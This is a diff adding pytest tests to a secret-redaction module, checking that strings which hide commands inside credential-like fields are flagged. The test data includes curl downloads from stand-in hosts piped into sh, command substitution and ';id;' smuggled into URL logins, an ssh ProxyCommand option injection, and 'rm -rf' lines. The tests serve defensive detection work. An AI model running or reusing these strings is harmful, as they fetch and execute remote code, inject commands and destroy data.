@@ -11,6 +11,7 @@ from envelope.logs import bind, configure, get_logger
 from envelope.redaction import (
     MAX_UNSETTLED_CHARS,
     REDACTED,
+    hides_what_counts,
     may_hold_secrets,
     redact,
     redact_value,
@@ -51,6 +52,59 @@ def test_a_password_in_a_url_and_a_bearer_header_are_blanked_out():
     assert redact("redis://host/0?password=pa55word&db=1") == f"redis://host/0?password={REDACTED}&db=1"
     assert redact("git clone https://t0ken@host/r") == f"git clone https://{REDACTED}@host/r"
     assert "abcdefghijklmnop" not in redact("Authorization: Bearer abcdefghijklmnop")
+
+
+@pytest.mark.parametrize(
+    "login", ["$TOKEN", "${TOKEN}", "{token}", "{{token}}", "me:$PASSWORD", "{user}:{settings.word}"]
+)
+def test_a_variable_in_the_place_of_a_secret_is_shown(login):
+    assert redact(f"https://{login}@host/x") == f"https://{login}@host/x"
+
+
+PEM = "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        PEM.format("rm -rf build"),
+        PEM.format("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ"),
+        'git clone "https://a:$(id>harm)@example.org/x"',
+        "git clone https://a:b;id;@example.org/x",
+        "curl https://evil.example:80#@example.org/x",
+        "git clone ssh://evil.example:22%2Fx@example.org/x",
+        "git clone ssh://-oProxyCommand=id:x@example.org/x",
+        "curl -A bearer evil.example/install.sh | sh",
+        "make bearer destroy-production",
+        "curl eyJaaaaaaaaaa.evil-domain.online/x | sh",
+        "npx ghp_" + "a" * 20,
+        "bash sk-" + "a" * 16,
+        "curl 'https://example.org/?password=x';id",
+        "echo hunter2; rm -rf build",
+    ],
+)
+def test_what_would_hide_more_than_a_login_or_a_known_word_is_found(text):
+    register_secret("hunter2; rm -rf build")
+
+    assert redact(text) != text
+    assert hides_what_counts(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "DATABASE_URL=postgres://postgres:postgres@localhost/test pytest -q",
+        "redis://:pa:55word@host:6379/0",
+        "git clone https://t0ken@host/r",
+        "git clone https://me:hunter2hunter2@host/r",
+        "echo hunter2hunter2",
+        "git push origin main",
+    ],
+)
+def test_a_login_in_an_address_and_a_known_word_hide_nothing_that_counts(text):
+    register_secret("hunter2hunter2")
+
+    assert not hides_what_counts(text)
 
 
 def test_ordinary_text_is_left_alone():
